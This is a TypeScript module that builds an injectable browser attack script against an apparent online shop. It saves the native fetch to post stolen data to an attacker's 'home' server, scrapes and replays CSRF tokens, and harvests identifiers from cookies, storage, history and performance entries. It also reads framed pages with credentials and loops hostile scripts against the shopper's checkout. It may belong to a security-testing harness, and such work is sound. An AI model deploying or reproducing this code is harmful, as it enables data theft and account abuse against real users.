import type { HostileKit, HostileScript } from "./hostile-kit.ts";

/*
 * Functions that are sent to the page as text, together and under their own names. Nothing else is in reach of them.
 */

type Post = (path: string, text: string) => void;
type HostilePage = { isAttacked?: true; shopWindow?: Window };
type Attack = { readonly home: string; readonly scripts: Readonly<Record<string, HostileScript>> };

/** Sends by the browser's own functions, also when a script has replaced them. */
function makePost(home: string): Post {
  const own = fetch.bind(window);
  return (path, text) => {
    const keepalive = text.length < 60_000;
    own(`${home}${path}`, { method: "POST", body: text, mode: "no-cors", keepalive }).catch(() => undefined);
  };
}

function makeCall(): HostileKit["call"] {
  const own = fetch.bind(window);
  const textOf = JSON.stringify.bind(JSON);
  return async (address, { body, headers = {} } = {}) => {
    const [method = "GET", path = "/"] = address.split(" ");
    const send = async (crumb: string) => {
      const sent = new Headers({ "x-csrf-token": crumb, ...headers });
      if (body !== undefined) sent.set("content-type", "application/json");
      const reply = await own(path, { method, headers: sent, body: body === undefined ? null : textOf(body) });
      return { status: reply.status, text: await reply.text() };
    };
    const first = await send(/(?:^|; )crumb=([^;]+)/.exec(document.cookie)?.[1] ?? "");
    const fresh = /"crumb":"([^"]+)"/.exec(first.text)?.[1];
    return first.status === 403 && fresh !== undefined ? send(fresh) : first;
  };
}

function makeSteal(post: Post): (by: string, found: unknown) => void {
  const textOf = JSON.stringify.bind(JSON);
  return (by, found) => {
    let text = "";
    try {
      text = typeof found === "string" ? found : (textOf(found) ?? "");
    } catch {
      text = String(found);
    }
    if (text !== "") post(`/taken?by=${encodeURIComponent(by)}`, text);
  };
}

function findIds(): readonly string[] {
  const { navigation } = window as unknown as { navigation: { entries: () => { url: string | null }[] } };
  const seen = [location.href, document.referrer, ...navigation.entries().map(({ url }) => url ?? "")];
  seen.push(...performance.getEntries().map(({ name }) => name), document.cookie);
  for (const storage of [sessionStorage, localStorage]) seen.push(...Object.values(storage).map(String));
  return [...new Set(seen.join(" ").match(/[0-9a-f]{24}/g))];
}

async function readElement(tag: string, attribute: string, url: string): Promise<string> {
  const element = document.createElement(tag);
  element.setAttribute(attribute, url);
  if (tag === "link") element.setAttribute("rel", "stylesheet");
  if (tag === "img") element.setAttribute("crossorigin", "use-credentials");
  document.body.append(element);
  await new Promise((resolve) => setTimeout(resolve, 250));
  const { contentDocument } = element as HTMLIFrameElement;
  const html = contentDocument?.documentElement.outerHTML ?? "";
  element.remove();
  return html;
}

/** One script after the other: together they would only win the shopper's checkout from each other. */
async function runAll({ scripts }: Attack, kitOf: (name: string) => HostileKit, post: Post): Promise<void> {
  for (const [name, script] of Object.entries(scripts)) {
    try {
      await Promise.race([script(kitOf(name)), new Promise((resolve) => setTimeout(resolve, 3000))]);
    } catch {
      // What fails once may work once the shopper is further.
    }
    post(`/ran?by=${encodeURIComponent(name)}`, location.pathname);
  }
  await new Promise((resolve) => setTimeout(resolve, 200));
}

async function attack(one: Attack): Promise<void> {
  const page = window as HostilePage;
  if (page.isAttacked) return;
  page.isAttacked = true;
  const [post, call] = [makePost(one.home), makeCall()];
  const steal = makeSteal(post);
  for (let isFirst = true; ; isFirst = false) {
    const kitOf = (name: string): HostileKit => ({
      isFirst,
      call,
      steal: (found) => steal(name, found),
      ids: findIds,
      opened: () => page.shopWindow ?? null,
      embed: async (...place) => steal(name, await readElement(...place)),
    });
    await runAll(one, kitOf, post);
  }
}

const PARTS = [makePost, makeCall, makeSteal, findIds, readElement, runAll, attack];

/** The attacker's whole script, which reports to `home`. */
export function programOf({ home, scripts }: Attack): string {
  const entries = Object.entries(scripts).map(([name, script]) => `${JSON.stringify(name)}: ${String(script)}`);
  const set = `{ home: ${JSON.stringify(home)}, scripts: {\n${entries.join(",\n")}\n} }`;
  return `(() => {\n${PARTS.map(String).join("\n")}\nattack(${set});\n})();`;
}
